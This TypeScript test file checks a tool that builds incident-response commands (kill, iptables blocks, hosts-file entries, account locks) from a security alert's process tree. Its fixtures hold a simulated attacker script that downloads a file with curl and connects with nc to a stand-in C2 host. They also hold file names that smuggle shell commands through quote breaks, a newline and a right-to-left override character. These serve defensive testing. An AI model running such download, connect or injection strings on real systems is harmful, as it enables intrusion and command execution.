import { execFileSync } from 'node:child_process';
import { expect, test } from 'vitest';
import { toSampleAlert } from '../../test/browser_app/sample_alerts';
import { toSampleStory, toStoryProcess, toStoryTree } from '../../test/browser_app/sample_story';
import { RESPONSE_STEP, toResponseCommands } from './response_commands';
import { toResponseFacts, type ResponseFacts } from './response_facts';

const toFacts = (script: string, part: object = {}): ResponseFacts =>
  toResponseFacts(
    toSampleAlert(),
    toSampleStory({
      trees: [
        toStoryTree([toStoryProcess(50, ['curl', 'http://198.51.100.7/other'])]),
        toStoryTree([
          toStoryProcess(0, ['sh', '-c', script], { isOfAlert: true, ...part }),
          toStoryProcess(1, ['nc'], { pid: 4800 }),
        ]),
      ],
    })
  );

test('stops, blocks, removes and locks what the alert’s own tree shows', () => {
  const facts = toFacts(
    'curl http://203.0.113.9/x -o /tmp/x; ping 10.0.0.7; nc evil.test-c2.net 1'
  );
  expect(toResponseCommands(RESPONSE_STEP.stop, facts)).toEqual([
    'ps -o pid,ppid,lstart,args -p 4711,4800',
    'kill -STOP 4711 4800',
    'kill -KILL 4711 4800',
  ]);
  expect(toResponseCommands(RESPONSE_STEP.block, facts)).toEqual([
    'iptables -I OUTPUT -d 203.0.113.9 -j REJECT',
    'iptables -I INPUT -s 203.0.113.9 -j DROP',
    "echo '0.0.0.0 evil.test-c2.net' >> /etc/hosts",
  ]);
  expect(toResponseCommands(RESPONSE_STEP.remove, facts)).toContain('sha256sum -- /tmp/x');
  expect(toResponseCommands(RESPONSE_STEP.credentials, facts)).toEqual(['passwd --lock www-data']);
  expect(toResponseCommands(RESPONSE_STEP.restrict, facts)[0]).toContain('--uid-owner www-data');
  expect(toResponseCommands(RESPONSE_STEP.scan, facts)[0]).toContain('/srv/www');
});

test('isolates in one command, so that nobody cuts himself off half-way', () => {
  const lines = toResponseCommands(RESPONSE_STEP.isolate, toFacts('id'));
  expect(lines.filter((line) => !line.startsWith('#'))).toHaveLength(1);
});

test('quotes what an attacker named so that a shell reads it as a name', () => {
  const name = `/tmp/a'; touch pwned; $(id) "b`;
  const facts = { ...toFacts('id'), files: [name] };
  for (const line of toResponseCommands(RESPONSE_STEP.remove, facts)) {
    const words = execFileSync('sh', ['-c', `printf '%s\\n' ${line}`])
      .toString()
      .split('\n');
    expect(words.some((word) => word.startsWith(name))).toBe(true);
  }
});

test('leaves out names that are options, more than one line, or hide something', () => {
  const facts = toFacts('id', {
    user: '--root=/x',
    activities: [
      { kind: 'file', time: '', action: 'creation', target: '/tmp/a\nreboot' },
      { kind: 'file', time: '', action: 'creation', target: '/tmp/\u202eevil' },
    ],
  });
  expect(facts.files).toEqual([]);
  expect(toResponseCommands(RESPONSE_STEP.credentials, facts)).toEqual(['passwd --lock www-data']);
});

test('has nothing to run where nothing is known', () => {
  const facts = toResponseFacts({ event: {} }, undefined);
  for (const step of Object.values(RESPONSE_STEP).filter((one) => one !== RESPONSE_STEP.isolate)) {
    expect(toResponseCommands(step, facts)).toEqual([]);
  }
});
